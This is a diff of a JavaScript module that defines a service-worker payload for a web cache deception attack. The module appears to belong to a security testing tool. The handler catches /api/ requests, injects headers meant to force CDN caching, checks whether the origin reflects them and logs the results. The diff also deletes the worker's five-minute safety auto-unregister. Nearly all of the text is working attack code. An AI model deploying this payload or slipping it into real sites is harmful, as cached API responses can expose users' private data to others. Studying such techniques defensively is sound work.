@@ -1,68 +1,71 @@
-// T2: Header Manipulation Attack - Complete implementation  
-  const T2_HEADER_MANIPULATION = `
-// Service Worker: T2 Header Manipulation Attack
+// T2: Header Manipulation Attack - payload definition for sw/registry.js
 // Targets: All /api/ endpoints
 // Technique: Request header injection for origin reflection
-
-const ATTACK_CONFIG = {
-  targetPattern: /^\\/api\\//,
-  injectHeaders: {
-    'X-Custom-Surrogate-Control': 'max-age=3600',
-    'X-Force-CDN-Cache': 'true',
-    'X-Cache-Override': 'public'
-  }
-};
-
-console.log('[SW-WCD-T2] Header Manipulation activated');
-
-self.addEventListener('install', (event) => {
-  console.log('[SW-WCD-T2] Installing');
-  event.waitUntil(self.skipWaiting());
-});
-
-self.addEventListener('activate', (event) => {
-  console.log('[SW-WCD-T2] Activating and claiming clients');
-  event.waitUntil(clients.claim());
-});
-
+const T2_HEADER_MANIPULATION = {
+  type: 't2-header-manipulation',
+  tag: 'T2',
+  name: 'Header Manipulation',
+  defaults: {
+    targetPaths: ['/api/'],
+    injectHeaders: {
+      'X-Custom-Surrogate-Control': 'max-age=3600',
+      'X-Force-CDN-Cache': 'true',
+      'X-Cache-Override': 'public'
+    }
+  },
+  fetchHandler: `
 self.addEventListener('fetch', (event) => {
   const url = new URL(event.request.url);
-  
-  if (ATTACK_CONFIG.targetPattern.test(url.pathname)) {
-    console.log('[SW-WCD-T2] Intercepting API request:', url.pathname);
-    
+
+  if (isTargetPath(url.pathname)) {
+    console.log(LOG_PREFIX, 'Intercepting API request:', url.pathname);
+
     // Create new headers with injected values
     const modifiedHeaders = new Headers(event.request.headers);
-    
+
     Object.entries(ATTACK_CONFIG.injectHeaders).forEach(([key, value]) => {
       modifiedHeaders.set(key, value);
-      console.log(\`[SW-WCD-T2] Injected header: \${key}: \${value}\`);
+      console.log(LOG_PREFIX, \`Injected header: \${key}: \${value}\`);
     });
-    
+
     const modifiedRequest = new Request(event.request, {
       headers: modifiedHeaders
     });
-    
+
+    const rewrite = {
+      originalUrl: url.href,
+      rewrittenUrl: url.href,
+      details: { injectedHeaders: Object.keys(ATTACK_CONFIG.injectHeaders) }
+    };
+    reportEvent('intercept', rewrite);
+
     event.respondWith(
       fetch(modifiedRequest)
         .then(response => {
           // Check if origin reflected any headers
           const reflectedHeaders = {};
           Object.keys(ATTACK_CONFIG.injectHeaders).forEach(header => {
-            if (response.headers.has(header)) {
-              reflectedHeaders[header] = response.headers.get(header);
+            const reflectedName = header.replace(/^X-Custom-/i, '');
+            if (response.headers.has(reflectedName)) {
+              reflectedHeaders[reflectedName] = response.headers.get(reflectedName);
             }
           });
-          
+
           if (Object.keys(reflectedHeaders).length > 0) {
-            console.log('[SW-WCD-T2] Origin reflected headers:', reflectedHeaders);
+            console.log(LOG_PREFIX, 'Origin reflected headers:', reflectedHeaders);
           }
-          
+
+          reportEvent('response', {
+            ...rewrite,
+            responseStatus: response.status,
+            details: { ...rewrite.details, reflectedHeaders }
+          });
+
           // Add attack metadata
           const attackHeaders = new Headers(response.headers);
           attackHeaders.set('X-SW-WCD-Attack', 'T2-Header-Manipulation');
           attackHeaders.set('X-SW-WCD-Reflected-Headers', JSON.stringify(reflectedHeaders));
-          
+
           return new Response(response.body, {
             status: response.status,
             statusText: response.statusText,
@@ -70,19 +73,14 @@ self.addEventListener('fetch', (event) => {
           });
         })
         .catch(error => {
-          console.error('[SW-WCD-T2] Attack failed:', error);
+          console.error(LOG_PREFIX, 'Attack failed:', error);
+          reportEvent('fallback', { ...rewrite, error: error.message });
           return fetch(event.request);
         })
     );
   }
 });
-
-// Safety: Auto-unregister after 5 minutes
-setTimeout(() => {
-  self.registration.unregister().then(success => {
-    console.log('[SW-WCD-T2] Safety auto-unregister:', success);
-  });
-}, 300000);
-`;
+`
+};
 
 export { T2_HEADER_MANIPULATION };
\ No newline at end of file